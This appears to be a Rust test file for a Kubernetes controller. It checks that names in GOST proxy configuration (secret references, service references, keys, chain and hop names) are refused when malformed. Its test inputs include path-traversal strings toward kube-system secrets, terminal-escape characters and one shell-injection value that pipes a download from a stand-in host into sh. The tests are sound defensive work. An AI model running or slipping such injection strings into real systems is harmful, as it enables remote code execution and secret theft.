//! Names that go into requests to the API server, or that are printed: refused before they are used.

use super::*;

/// Names that a path, a query or a shell would take for something else.
const MALFORMED: [&str; 12] = [
    "?watch=true&a=1",
    "../../kube-system/secrets/x",
    "nosuch;curl${IFS}evil.example|sh;",
    "a/status",
    "a%2fb",
    "A",
    "a..b",
    ".",
    "-a",
    "a b",
    "a\u{1b}",
    "ａ",
];

/// The path and the reason of each error.
fn found(text: &str) -> Vec<(String, Reason)> {
    let errors = controller(text).expect_err(text).0;
    let invalid = |error: &&Diagnostic| error.reason == Reason::Invalid;
    let mut invalid = errors.iter().filter(invalid);
    assert!(invalid.all(|error| error.message.contains("letters")), "{errors:?}");
    errors.into_iter().map(|error| (error.path, error.reason)).collect()
}

#[test]
fn a_name_that_no_secret_can_have_is_refused_wherever_it_stands_and_is_not_asked_for() {
    for name in MALFORMED {
        let name = serde_json::to_string(name).unwrap();
        let service = |rest: &str| format!("services: [{{name: a, addr: ':1', {rest}}}]\n");
        let node = |rest: &str| format!("hops: [{{name: h, nodes: [{{addr: 'h:1', {rest}}}]}}]");
        let of_tls = |rest: &str| {
            let certificate = "secretRef: {name: fine}";
            service(&format!("listener: {{type: wss, tls: {{{certificate}, {rest}}}}}"))
        };
        for (text, path) in [
            (
                service(&format!("handler: {{type: http, auth: {{secretRef: {{name: {name}}}}}}}")),
                "services[0].handler.auth.secretRef.name",
            ),
            (
                service(&format!("listener: {{type: wss, tls: {{secretRef: {{name: {name}}}}}}}")),
                "services[0].listener.tls.secretRef.name",
            ),
            (
                of_tls(&format!("clientCARef: {{name: {name}}}")),
                "services[0].listener.tls.clientCARef.name",
            ),
            (
                format!("authers: [{{name: u, secretRef: {{name: {name}}}}}]"),
                "authers[0].secretRef.name",
            ),
            (
                format!("authers: [{{name: u, auths: [{{secretRef: {{name: {name}}}}}]}}]"),
                "authers[0].auths[0].secretRef.name",
            ),
            (
                node(&format!("connector: {{auth: {{secretRef: {{name: {name}}}}}}}")),
                "hops[0].nodes[0].connector.auth.secretRef.name",
            ),
            (
                node(&format!("dialer: {{type: wss, tls: {{caRef: {{name: {name}}}}}}}")),
                "hops[0].nodes[0].dialer.tls.caRef.name",
            ),
            (
                node(&format!("dialer: {{type: wss, tls: {{secretRef: {{name: {name}}}}}}}")),
                "hops[0].nodes[0].dialer.tls.secretRef.name",
            ),
        ] {
            let found: Vec<_> =
                found(&text).into_iter().filter(|(_, r)| *r == Reason::Invalid).collect();
            assert_eq!(found, [(path.to_string(), Reason::Invalid)], "{text}");
            let asked = read(&text).unwrap().gost;
            assert!(asked.secrets().iter().all(|name| *name == "fine"), "{text}");
        }
    }
}

#[test]
fn a_key_that_no_secret_can_have_is_refused() {
    for key in ["ca/../x", "a b", "..", "a\n", "é"] {
        let key = serde_json::to_string(key).unwrap();
        let text = format!(
            "services: [{{name: a, addr: ':1', listener: {{type: wss, tls: {{\
             secretRef: {{name: s}}, clientCARef: {{name: s, key: {key}}}}}}}}}]"
        );
        let errors = controller(&text).expect_err(&text).0;
        let path = "services[0].listener.tls.clientCARef.key";
        assert!(errors.iter().any(|e| e.path == path && e.reason == Reason::Invalid), "{errors:?}");
    }
}

#[test]
fn a_name_that_no_service_can_have_is_refused_and_not_asked_for() {
    for name in MALFORMED.into_iter().chain(["a.b"]) {
        let name = serde_json::to_string(name).unwrap();
        let target = format!(
            "services: [{{name: a, addr: ':1', handler: {{type: forward}}, listener: {{type: ws}}, \
             forwarder: {{nodes: [{{serviceRef: {{name: {name}, port: 1}}}}]}}}}]"
        );
        let node =
            format!("hops: [{{name: h, nodes: [{{serviceRef: {{name: {name}, port: 1}}}}]}}]");
        for (text, path) in [
            (target, "services[0].forwarder.nodes[0].serviceRef.name"),
            (node, "hops[0].nodes[0].serviceRef.name"),
        ] {
            assert_eq!(found(&text), [(path.to_string(), Reason::Invalid)]);
            assert!(read(&text).unwrap().gost.service_refs().is_empty(), "{text}");
        }
    }
}

#[test]
fn names_inside_of_an_object_are_printable_ascii() {
    for name in ["a\u{1b}[2J", "a\nb", "größe", "a\u{202e}b"] {
        let name = serde_json::to_string(name).unwrap();
        let hop = |name: &str, node: &str| {
            format!("{{name: {name}, nodes: [{{name: {node}, addr: 'h:1'}}]}}")
        };
        for (text, path) in [
            (format!("chains: [{{name: {name}, hops: [{}]}}]", hop("h", "n")), "chains[0].name"),
            (
                format!("chains: [{{name: c, hops: [{}]}}]", hop(&name, "n")),
                "chains[0].hops[0].name",
            ),
            (
                format!("chains: [{{name: c, hops: [{}]}}]", hop("h", &name)),
                "chains[0].hops[0].nodes[0].name",
            ),
            (format!("hops: [{}]", hop(&name, "n")), "hops[0].name"),
            (format!("hops: [{}]", hop("h", &name)), "hops[0].nodes[0].name"),
            (
                format!("authers: [{{name: {name}, auths: [{{username: u, password: p}}]}}]"),
                "authers[0].name",
            ),
            (format!("admissions: [{{name: {name}, matchers: ['::1']}}]"), "admissions[0].name"),
            (format!("bypasses: [{{name: {name}, matchers: [a.b]}}]"), "bypasses[0].name"),
            (format!("hosts: [{{name: {name}}}]"), "hosts[0].name"),
            (
                format!("resolvers: [{{name: {name}, nameservers: [{{addr: '9.9.9.9'}}]}}]"),
                "resolvers[0].name",
            ),
            (format!("limiters: [{{name: {name}, limits: ['$ 1MB 1MB']}}]"), "limiters[0].name"),
            (format!("climiters: [{{name: {name}, limits: ['$ 1']}}]"), "climiters[0].name"),
            (format!("rlimiters: [{{name: {name}, limits: ['$ 1']}}]"), "rlimiters[0].name"),
            (
                format!(
                    "services: [{{name: a, addr: ':1', handler: {{type: tcp}}, \
                     forwarder: {{nodes: [{{name: {name}, addr: 'h:1'}}]}}}}]"
                ),
                "services[0].forwarder.nodes[0].name",
            ),
        ] {
            assert_eq!(found(&text), [(path.to_string(), Reason::Invalid)], "{text}");
            assert!(files(&text).is_ok(), "files have the freedom of GOST: {text}");
        }
    }
    let user =
        |name: &str| format!("authers: [{{name: a, auths: [{{username: {name}, password: p}}]}}]");
    let path = "authers[0].auths[0].username".to_string();
    assert_eq!(found(&user("größe")), [(path, Reason::Invalid)]);
    assert!(controller(&user("'a b-c_d.e@f'")).is_ok());
}
